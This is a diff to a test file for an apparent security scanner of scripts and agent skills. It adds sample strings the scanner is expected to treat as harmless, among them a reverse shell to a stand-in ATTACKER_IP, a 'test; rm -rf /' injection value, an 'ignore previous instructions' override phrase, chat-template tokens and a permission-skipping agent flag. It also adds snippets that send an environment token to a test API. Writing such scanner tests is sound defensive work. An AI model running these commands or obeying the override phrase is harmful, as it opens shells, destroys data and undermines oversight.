@@ -129,6 +129,21 @@ _HARMLESS = [
     "An emoji 👩‍👩‍👧 and a flag 🏴\U000e0067\U000e0062\U000e0065\U000e006e\U000e0067\U000e007f.",
     "```python\nresult = run(['ls'])\n```",
     "| HTTP | Python (`a.b`) | Ruby |",
+    "Never pipe `curl ... | sh` into a shell, and refuse `curl | sudo bash`.",
+    "The boundaries in there override every other instruction in this file.",
+    "A handler must not inject hidden text or override safety guidelines.",
+    "An adversary writes inputs that are crafted to override the system prompt.",
+    "Answer with care if they ask you to ignore previous instructions.",
+    "The delimiters <|im_start|> and <|im_end|> separate speakers, <|endoftext|> ends them.",
+    "Do not use this skill to monitor another person without their knowledge.",
+    "| Client-side validation bypass | Security rules validate every request |",
+    "Register https://abc123.ngrok.io/hook and https://YOUR-DOMAIN.ngrok-free.app/callback.",
+    "Ask https://1.0.0.1/dns-query, and on the tailnet http://100.78.106.112:3002.",
+    "```bash\npip install scapy\n```",
+    "```bash\nbash -i >& /dev/tcp/ATTACKER_IP/4444 0>&1\n```",
+    '```python\nrun("test; rm -rf /")\n```',
+    "```js\nconst all = {...process.env};\nconst answer = await fetch(url);\nrestore(all);\n```",
+    "Never use `claude --dangerously-skip-permissions` for this.",
 ]
 
 
@@ -150,6 +165,24 @@ def test_a_value_of_a_dictionary_is_no_request(scan: Scan) -> None:
     assert (
         scan(**{"a.py": code + "print(session.get('key', base64.b64encode(os.environ['A_KEY'].encode())))\n"}).worst != "high"
     )
+
+
+@pytest.mark.parametrize(
+    "code",
+    [
+        "import os, urllib.request\nkey = os.environ['TIDY_TOKEN']\n"
+        "asked = urllib.request.Request('https://api.tidy.test/x', headers={'Authorization': key})\n"
+        "answer = urllib.request.urlopen(asked)\n",
+        "import base64, os, requests\nkey = os.environ['TIDY_TOKEN']\n"
+        "found = requests.post('https://api.tidy.test/x', headers={'key': key}, json={'key': key})\n"
+        "requests.get(base64.b64encode(found.content))\n",
+        "import base64, dataclasses\n\nclass Entity:\n    name = base64.b64decode('eA==')\n\ndef shown(entity, f):\n"
+        "    f.name = base64.b64decode(entity)\n    return getattr(entity, f.name)\n",
+    ],
+)
+def test_an_answer_is_not_what_was_asked_with(scan: Scan, code: str) -> None:
+    report = scan("# Tidy\nIt asks api.tidy.test with TIDY_TOKEN.\n", scripts__run_dot_py=code)
+    assert not [one for one in report.open if one.severity == "high"]
 
 
 def test_what_an_example_shows_weighs_less_than_what_a_script_does(scan: Scan) -> None:
